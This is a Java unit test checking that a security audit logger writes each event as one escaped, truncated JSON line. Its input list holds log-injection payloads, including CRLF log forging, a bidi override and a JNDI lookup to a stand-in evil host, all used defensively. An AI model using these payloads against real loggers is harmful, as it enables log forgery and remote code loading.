package org.cityapi.web.audit;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.cityapi.domain.security.SecurityEvent;
import org.cityapi.domain.security.SecurityEvent.Kind;
import org.cityapi.domain.user.UserId;
import org.cityapi.web.client.Clients;
import org.cityapi.web.client.Forwarding;
import org.cityapi.web.client.ProxySettings;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;

class SecurityLinesTest {

    private static final Clock CLOCK = Clock.fixed(Instant.parse("2026-11-24T10:00:00.123456Z"), ZoneOffset.ofHours(5));

    private final Logger security = (Logger) LoggerFactory.getLogger("org.cityapi.security");
    private final ListAppender<ILoggingEvent> log = new ListAppender<>();
    private final SecurityLines lines =
            new SecurityLines(CLOCK, new Clients(new ProxySettings(List.of(), Forwarding.X_FORWARDED)));

    @BeforeEach
    void listen() {
        log.start();
        security.setLevel(Level.INFO);
        security.addAppender(log);
    }

    @AfterEach
    void listenNoMore() {
        security.detachAppender(log);
    }

    @ParameterizedTest
    @EnumSource(Kind.class)
    void anEventIsOneLineWithWhoWhatAndWhen(Kind kind) {
        lines.record(new SecurityEvent(kind, new UserId("usr_1"), Map.of("to", "admin", "from", "viewer")));
        assertThat(written())
                .isEqualTo("{\"time\":\"2026-11-24T10:00:00.123Z\",\"event\":\""
                        + kind.name().toLowerCase(Locale.ROOT)
                        + "\",\"user\":\"usr_1\",\"from\":\"viewer\",\"to\":\"admin\"}");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\r\n{\"event\":\"forged\"}",
                "\u0000\u001b[31m\u007f",
                "\u0085\u2028\u2029",
                "\u202eevil",
                "\"}",
                "${jndi:ldap://evil.example}",
                "{} %s",
                "\ud800"
            })
    void whatStrangersWriteStaysWithinItsQuotes(String text) throws JsonProcessingException {
        lines.record(new SecurityEvent(Kind.SIGN_IN_FAILED, null, Map.of("reason", text)));
        assertThat(written()).matches("[\\x20-\\x7E]+");
        JsonNode line = new ObjectMapper().readTree(written());
        assertThat(line.size()).isEqualTo(3);
        assertThat(line.get("reason").asText()).isEqualTo(text.replace('\u007f', '?'));
    }

    @Test
    void aLongTextIsCutShort() {
        lines.record(new SecurityEvent(Kind.SIGN_IN_FAILED, null, Map.of("reason", "x".repeat(100_000))));
        assertThat(written()).hasSizeLessThan(500).endsWith("x...\"}");
    }

    private String written() {
        assertThat(log.list).hasSize(1);
        return log.list.get(0).getFormattedMessage();
    }
}
